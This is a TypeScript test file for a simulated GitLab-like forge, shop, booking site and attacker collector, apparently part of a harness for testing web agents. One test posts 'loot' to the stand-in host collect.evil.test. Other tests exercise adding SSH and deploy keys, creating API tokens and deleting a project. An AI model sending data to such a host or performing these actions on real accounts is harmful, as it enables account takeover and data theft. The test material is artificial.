import { request } from 'node:https';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { publishedForge } from '../test/support/sites/published-forge.ts';
import { type Sites, startSites } from './sites.ts';

interface Answer {
  readonly status: number;
  readonly location: string;
  readonly body: string;
}

/** A client that keeps its cookie and the form token, and checks the sites' certificate. */
class Client {
  readonly #sites: Sites;
  readonly #origin: URL;
  #cookie = '';
  #token = '';

  constructor(sites: Sites, origin: string) {
    this.#sites = sites;
    this.#origin = new URL(origin);
  }

  get(path: string): Promise<Answer> {
    return this.send('GET', path);
  }

  form(path: string, fields: Record<string, string>): Promise<Answer> {
    const body = new URLSearchParams({ ...fields, authenticity_token: this.#token }).toString();
    return this.send('POST', path, body, { 'content-type': 'application/x-www-form-urlencoded' });
  }

  async graphql(body: unknown): Promise<unknown> {
    const headers = { 'content-type': 'application/json', 'x-csrf-token': this.#token };
    return JSON.parse((await this.send('POST', '/api/graphql', JSON.stringify(body), headers)).body);
  }

  send(method: string, path: string, body = '', headers: Record<string, string> = {}): Promise<Answer> {
    const [host, port] = (this.#sites.resolve[`${this.#origin.host}:443`] ?? '').split(':');
    const options = {
      host,
      port,
      path,
      method,
      ca: this.#sites.caPem,
      servername: this.#origin.host,
      headers: { host: this.#origin.host, cookie: this.#cookie, ...headers },
    };
    return new Promise((resolve, reject) => {
      const outgoing = request(options, (incoming) => {
        let text = '';
        incoming.setEncoding('utf8');
        incoming.on('data', (chunk: string) => {
          text += chunk;
        });
        incoming.on('end', () => {
          this.#cookie = incoming.headers['set-cookie']?.[0]?.split(';')[0] ?? this.#cookie;
          this.#token = /name="csrf-token" content="([^"]+)"/.exec(text)?.[1] ?? this.#token;
          resolve({ status: incoming.statusCode ?? 0, location: incoming.headers.location ?? '', body: text });
        });
      });
      outgoing.on('error', reject).end(body);
    });
  }
}

const NOTE = 'mutation createWorkItemNote($input: CreateNoteInput!) { createNote(input: $input) { errors } }';
const ISSUE_30 = 'gid://gitlab/WorkItem/johannr-dev/agent/30';

describe('the sites', () => {
  let sites: Sites;
  let forge: Client;
  let shop: Client;
  let stay: Client;

  beforeAll(async () => {
    sites = await startSites();
    forge = new Client(sites, 'https://forge.test');
    shop = new Client(sites, 'https://shop.test');
    stay = new Client(sites, 'https://stay.test');
    for (const client of [forge, shop, stay]) expect((await client.get('/')).status).toBe(200);
  });
  afterAll(() => sites.close());

  it('refuse a change without the form token, and note it on the wire alone', async () => {
    const answer = await forge.send('POST', '/-/user_settings/ssh_keys', 'key%5Bkey%5D=x', {});
    expect(answer.status).toBe(403);
    expect(sites.logs.forge).toEqual([]);
    expect(sites.logs.wire.at(-1)).toMatchObject({ method: 'POST', body: 'key%5Bkey%5D=x' });
  });

  it('refuse a change by a client without a cookie', async () => {
    const stranger = new Client(sites, 'https://shop.test');
    expect((await stranger.form('/cart/add', { product: 'kettle' })).status).toBe(403);
    expect(sites.logs.shop).toEqual([]);
  });

  it('forge: a comment goes through GraphQL, and what it says is escaped', async () => {
    const input = { noteableId: ISSUE_30, body: '<img src=x>' };
    await forge.graphql({ operationName: 'createWorkItemNote', query: NOTE, variables: { input } });
    expect(sites.logs.forge.at(-1)).toEqual({
      kind: 'comment',
      project: 'johannr-dev/agent',
      issue: '30',
      body: '<img src=x>',
    });
    const answer = await forge.graphql({
      query: '{ namespace(fullPath: "johannr-dev/agent") { workItem(iid: "30") { notes { bodyHtml } } } }',
    });
    expect(JSON.stringify(answer)).toContain('<p>&lt;img src=x&gt;</p>');
  });

  it('forge: GraphQL knows aliases, batches and errors', async () => {
    const before = sites.logs.forge.length;
    const twice = `mutation x { a: workItemDelete(input: { id: "${ISSUE_30}9" }) { errors }
      b: createNote(input: { noteableId: "${ISSUE_30}", body: "aliased" }) { errors } }`;
    const answers = await forge.graphql([{ query: twice }, { query: '{ me: currentUser { email } }' }, { query: '{' }]);
    expect(answers).toMatchObject([
      { data: { a: { errors: ['There is no such issue.'] }, b: { errors: [] } } },
      { data: { me: { email: 'johann.private@mail.example' } } },
      { errors: [{}] },
    ]);
    expect(sites.logs.forge.slice(before)).toMatchObject([{ kind: 'comment', body: 'aliased' }]);
    expect((await forge.send('POST', '/api/graphql', 'no JSON')).status).toBe(403);
  });

  it('forge: web routes as on GitLab', async () => {
    const routes = ['', '/-/issues', '/-/issues/new', '/-/issues/30', '/edit', '/-/settings/repository'];
    for (const route of routes) expect((await forge.get(`/johannr-dev/agent${route}`)).status, route).toBe(200);
    expect((await forge.get('/nobody/nothing')).status).toBe(404);
    expect((await forge.get('/-/user_settings/profile')).body).toContain('johann.private@mail.example');

    const fields = { 'personal_access_token[name]': 'n', 'personal_access_token[scopes][]': 'api' };
    const created = await forge.form('/-/user_settings/personal_access_tokens', fields);
    const effect = sites.logs.forge.at(-1);
    expect(effect).toMatchObject({ kind: 'token created', name: 'n', scopes: 'api' });
    expect(created.body).toContain(effect?.kind === 'token created' ? effect.value : 'none');

    await forge.form('/johannr-dev/agent/-/deploy_keys', { 'deploy_key[key]': 'k' });
    await forge.form('/-/user_settings/ssh_keys', { 'key[key]': 'k', 'key[title]': 't' });
    await forge.form('/johannr-dev/backups', { _method: 'delete' });
    expect(sites.logs.forge.slice(-3).map(({ kind }) => kind)).toEqual([
      'deploy key added',
      'SSH key added',
      'project deleted',
    ]);
    expect((await forge.get('/johannr-dev/backups')).status).toBe(404);
  });

  it('shop: from the product to the order, and each purchase once', async () => {
    expect((await shop.get('/products/brewmaster')).body).toContain('$39.00');
    expect((await shop.form('/cart/add', { product: 'brewmaster' })).location).toBe('/cart');
    const { location } = await shop.form('/checkout/begin', {});
    const checkout = await shop.get(location);
    expect(checkout.body).toContain('<strong class="price" id="order-total">$39.00</strong>');
    const order = { purchase: location.split('/').at(-1) ?? '', address: 'a-1' };
    expect((await shop.form('/checkout/place', order)).location).toBe('/orders');
    expect((await shop.form('/checkout/place', order)).status).toBe(400);
    expect(sites.logs.shop.filter(({ kind }) => kind === 'order placed')).toEqual([
      {
        kind: 'order placed',
        lines: [{ product: 'brewmaster', quantity: 1 }],
        totalCents: 3900,
        address: '12 Linden Lane, Springfield',
      },
    ]);
  });

  it('shop: a new default address is where "buy now" ships to', async () => {
    await shop.form('/addresses', { name: 'New', text: '1 New Road', default: 'yes' });
    const { location } = await shop.form('/checkout/begin', { product: 'vista-56', quantity: '1' });
    await shop.form('/checkout/place', { purchase: location.split('/').at(-1) ?? '' });
    expect(sites.logs.shop.at(-1)).toMatchObject({ totalCents: 89900, address: '1 New Road' });
  });

  it('stay: search, book and write to the host', async () => {
    const found = await stay.get('/?q=napa');
    expect(found.body).toContain('Villa Oro');
    expect(found.body).not.toContain('Harbour Room');
    const booking = { place: 'villa-oro', checkin: '2027-05-17', checkout: '2027-05-22', guests: '2' };
    expect((await stay.form('/reservations', booking)).location).toBe('/trips');
    expect((await stay.form('/reservations', { ...booking, checkout: '2027-05-01' })).status).toBe(400);
    await stay.form('/messages', { place: 'villa-oro', text: 'hello' });
    expect(sites.logs.stay).toEqual([
      { kind: 'reserved', ...booking, guests: 2 },
      { kind: 'message sent', place: 'villa-oro', text: 'hello' },
    ]);
  });

  it('the attacker keeps everything that it is told', async () => {
    const attacker = new Client(sites, 'https://collect.evil.test');
    await attacker.send('POST', '/any/path?q=1', 'loot');
    expect(sites.logs.attacker).toEqual([
      { method: 'POST', url: 'https://collect.evil.test/any/path?q=1', body: 'loot' },
    ]);
    expect((await attacker.get('/guide')).body).toContain('create an issue');
  });
});

describe('the forge as gitlab.com', () => {
  const entries = z
    .array(
      z.object({
        semantic_action: z.string(),
        method: z.string(),
        url: z.string(),
        body: z.record(z.string(), z.unknown()),
        children: z.array(
          z.object({ method: z.string(), url: z.string(), body: z.record(z.string(), z.unknown()).default({}) }),
        ),
      }),
    )
    .parse(JSON.parse(publishedForge()));

  function fits(pattern: string, url: string): boolean {
    const source = pattern
      .replace(/[.+?^$()|[\]\\]/g, '\\$&')
      .replace(/\{\w+\}/g, '[^/]+')
      .replaceAll('*', '.*');
    return new RegExp(`^${source}$`).test(url);
  }

  function contains(body: string, wanted: Record<string, unknown>): boolean {
    const fields: Record<string, unknown> = body.startsWith('{')
      ? z.record(z.string(), z.unknown()).parse(JSON.parse(body))
      : Object.fromEntries(new URLSearchParams(body));
    return Object.entries(wanted).every(([key, value]) => typeof value === 'object' || fields[key] === value);
  }

  it('sends what pages of GitLab send', async () => {
    const sites = await startSites({ forgeHost: 'gitlab.com' });
    const forge = new Client(sites, 'https://gitlab.com');
    const path = '/johannr-dev/agent';
    const operate = (operationName: string, query: string, input: unknown) =>
      forge.graphql({ operationName, query, variables: { input } });
    await forge.get('/');
    await forge.get(`${path}/-/issues`);
    await forge.get(`${path}/-/issues/30`);
    await forge.get('/-/user_settings/profile');
    await forge.get('/-/user_settings/ssh_keys');
    await forge.form('/-/user_settings/ssh_keys', { 'key[key]': 'k' });
    await forge.form('/-/user_settings/personal_access_tokens', { 'personal_access_token[name]': 'n' });
    await forge.form(`${path}/-/deploy_keys`, { 'deploy_key[key]': 'k' });
    await operate('createWorkItemNote', NOTE, { noteableId: ISSUE_30, body: 'b' });
    await forge.form(path, { _method: 'delete' });
    await sites.close();

    const named = sites.logs.wire.slice(1).map(({ method, url, body }) => {
      const entry = entries.find(
        (each) => each.method === method && fits(each.url, url) && (method === 'GET' || contains(body, each.body)),
      );
      return entry?.semantic_action ?? `${method} ${url}`;
    });
    expect(named).toEqual([
      'See issues',
      'See issue',
      'See own profile',
      'See SSH keys',
      'Add SSH key',
      'Make access token',
      'Add deploy key',
      'Comment on issue',
      'Delete project',
    ]);
    expect(sites.logs.forge).toHaveLength(5);
  });

  it('loads its pages with operations that the sitemap knows', async () => {
    const known = new Set(
      entries
        .flatMap(({ body, children }) => [body, ...children.map((child) => child.body)])
        .map((each) => each.operationName),
    );
    const sites = await startSites();
    const forge = new Client(sites, 'https://forge.test');
    const scripts = await Promise.all(['issue', 'issues', 'new-issue'].map((name) => forge.get(`/assets/${name}.js`)));
    await sites.close();
    const asked = scripts.flatMap(({ body }) => Array.from(body.matchAll(/ask\('(\w+)'/g), ([, name]) => name));
    expect(asked.length).toBeGreaterThan(5);
    expect(asked.filter((name) => !known.has(name))).toEqual([]);
  });
});
